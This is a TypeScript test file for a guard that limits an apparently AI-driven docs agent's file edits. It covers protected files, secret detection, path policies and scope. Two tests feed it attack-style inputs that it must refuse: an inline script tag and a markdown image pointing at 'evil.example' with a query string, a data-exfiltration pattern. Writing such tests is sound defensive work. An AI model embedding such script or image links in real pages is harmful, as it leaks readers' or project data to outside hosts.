import assert from 'node:assert/strict'
import { test } from 'node:test'
import { memoryTree } from '../../../test/support/memory-tree.ts'
import { createMemoryWorkspace } from '../../../test/support/memory-workspace.ts'
import { createDeleteFileTool } from '../../agent/tools/delete-file.ts'
import { createMoveFileTool } from '../../agent/tools/move-file.ts'
import { EditRefused } from '../../agent/refused-edit.ts'
import type { Tree } from '../../git/types.ts'
import { createKeyText } from '../../lib/key-text.ts'
import { groupDefaults } from '../../projects/setting-groups.ts'
import type { RunPolicy } from './judge-edits.ts'
import type { Content } from './content/read/kinds.ts'
import { readContent } from './content/read/read-content.ts'
import { guardWorkspace } from './guard.ts'

const signal = new AbortController().signal
const open: RunPolicy = { ...groupDefaults.pathPolicy, scope: [] }
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)

/** A guarded workspace whose files were the same before the run, except those of `since`. */
function guard(files: Readonly<Record<string, string>>, since: Readonly<Record<string, string>> = {}, policy = open) {
  const memory = createMemoryWorkspace({ ...files, ...since })
  const base = memoryTree(files) as Tree
  const reading = (content: Content) => Promise.resolve(readContent(content))
  return { memory, guarded: guardWorkspace(memory, { policy, base, reading, signal }) }
}

test('writing, moving and deleting protected files is refused, and nothing changes', async () => {
  const files = { 'package.json': '{}', 'a.md': 'A' }
  const { memory, guarded } = guard(files)
  const refused = { code: 'policy_refused', message: /^Nothing was changed: .* is protected: .*--unprotect/ }
  await assert.rejects(guarded.write('package.json', bytes('{"a":1}')), refused)
  await assert.rejects(guarded.write('docs/.env', bytes('A=1')), refused)
  await assert.rejects(guarded.move('package.json', 'b.md'), refused)
  await assert.rejects(guarded.move('a.md', 'run.sh'), refused)
  await assert.rejects(guarded.remove('package.json'), refused)
  assert.deepEqual(memory.texts(), files)
  await guarded.write('a.md', bytes('B'))
  await guarded.move('a.md', 'c.md')
  await guarded.remove('c.md')
  assert.deepEqual(memory.texts(), { 'package.json': '{}' })
})

test('a file can always be restored to its state before the run', async () => {
  const { memory, guarded } = guard({ 'run.sh': 'old' }, { 'run.sh': 'new', 'b.sh': 'new', 'c.md': 'old' })
  await assert.rejects(guarded.write('run.sh', bytes('other')), { code: 'policy_refused' })
  await guarded.write('run.sh', bytes('old'))
  await guarded.remove('b.sh')
  assert.deepEqual(memory.texts(), { 'run.sh': 'old', 'c.md': 'old' })
})

test('a file that an earlier run moved away can be moved back', async () => {
  const { memory, guarded } = guard({ 'run.sh': 'old' })
  await memory.move('run.sh', 'page.md')
  await guarded.move('page.md', 'run.sh')
  assert.deepEqual(memory.texts(), { 'run.sh': 'old' })
})

test('a secret cannot be written, and one that a page has stays with it', async () => {
  const [old, key] = [createKeyText(), createKeyText()]
  const { guarded, memory } = guard({ 'a.md': `Key: ${old}` })
  const refusal = await guarded.write('b.md', bytes(`\n${key}`)).catch((error: unknown) => error)
  assert.match(String(refusal), /b\.md line 2 has an API key of Docent/)
  assert.doesNotMatch(String(refusal), new RegExp(key.slice(0, 16)))
  await guarded.move('a.md', 'docs/a.md')
  await guarded.write('docs/a.md', bytes(`The key: ${old}`))
  assert.deepEqual(memory.texts(), { 'docs/a.md': `The key: ${old}` })
})

const linked = { 'a.md': '# A\n', 'b.md': '[A](a.md)\n', 'AGENTS.md': 'See [A](a.md).\n' }

test('moving a page leaves links in protected files, and says so', async () => {
  const { memory, guarded } = guard(linked)
  const { text } = await createMoveFileTool().run({ from: 'a.md', to: 'c.md' }, { workspace: guarded, signal })
  assert.deepEqual(memory.texts(), { 'b.md': '[A](c.md)\n', 'AGENTS.md': 'See [A](a.md).\n', 'c.md': '# A\n' })
  assert.match(text, /^AGENTS\.md: left as it is, and still names it: it is protected: instructions for agents$/m)
})

test('deleting a page leaves links in protected files, and says so', async () => {
  const { memory, guarded } = guard(linked)
  const remove = createDeleteFileTool()
  const { text } = await remove.run({ path: 'a.md', removeLinks: true }, { workspace: guarded, signal })
  assert.deepEqual(memory.texts(), { 'b.md': 'A\n', 'AGENTS.md': 'See [A](a.md).\n' })
  assert.match(text, /^AGENTS\.md: left as it is/m)
})

test('the policy of the project counts in every edit', async () => {
  const { guarded } = guard(
    { 'docs/a.md': '' },
    {},
    { ...open, allow: ['docs/'], deny: ['docs/x/'], unprotect: ['docs/run.sh'] },
  )
  await guarded.write('docs/run.sh', bytes('echo'))
  await assert.rejects(guarded.write('a.md', bytes('')), { message: /no glob of `pathPolicy\.allow` matches it/ })
  await assert.rejects(guarded.write('docs/X/a.md', bytes('')), {
    message: /it matches docs\/x\/ of `pathPolicy\.deny`/,
  })
  assert.equal(guarded.editProblem?.('docs/a.md'), undefined)
})

test('a script cannot be written, and what a page has stays with it', async () => {
  const frame = '<iframe src="https://video.example/1"></iframe>'
  const { guarded, memory } = guard({ 'a.md': `# A\n\n${frame}\n`, 'b.md': '# B\n' })
  const refusal = await guarded.write('b.md', bytes('# B\n\n<script>x()</script>\n')).catch((error: unknown) => error)
  assert.ok(refusal instanceof EditRefused)
  assert.equal(refusal.message, 'Nothing was changed: b.md line 3 adds a script.')
  assert.deepEqual(refusal.edit, { path: 'b.md', line: 3, message: 'adds a script', isGrave: true })
  await assert.rejects(guarded.write('c.md', bytes('![x](//evil.example/?k=1)')), {
    message: /an image of `evil\.example` with a query\. Do not look for another way: .*--image-host evil\.example/,
  })
  await guarded.write('a.md', bytes('# A\n'))
  await guarded.write('b.md', bytes(`# B\n\n${frame}\n`))
  assert.deepEqual(memory.texts(), { 'a.md': '# A\n', 'b.md': `# B\n\n${frame}\n` })
})

test('an image with a query can be written if the project allows its host', async () => {
  const { guarded, memory } = guard({}, {}, { ...open, imageHosts: ['badges.example'] })
  await guarded.write('a.md', bytes('![x](https://badges.example/x.svg?style=flat)'))
  assert.deepEqual(Object.keys(memory.texts()), ['a.md'])
})

test('a job changes nothing outside of its scope, and nothing that the project forbids', async () => {
  const files = { 'docs/api/a.md': 'A', 'docs/guide.md': 'B' }
  const { memory, guarded } = guard(files, {}, { ...open, deny: ['docs/api/legal/'], scope: ['docs/api/', '*.rst'] })
  const outside = { message: /docs\/guide\.md is outside of the scope of the automation\. .*automation set --scope/ }
  await assert.rejects(guarded.write('docs/guide.md', bytes('C')), outside)
  await assert.rejects(guarded.move('docs/api/a.md', 'docs/a.md'), { message: /docs\/a\.md is outside/ })
  await assert.rejects(guarded.write('docs/api/legal/x.md', bytes('X')), { message: /`pathPolicy.deny`/ })
  assert.deepEqual(memory.texts(), files)
  await guarded.write('docs/api/b.md', bytes('D'))
  await guarded.write('old/b.rst', bytes('E'))
  assert.deepEqual(Object.keys(memory.texts()).toSorted(), [
    'docs/api/a.md',
    'docs/api/b.md',
    'docs/guide.md',
    'old/b.rst',
  ])
})
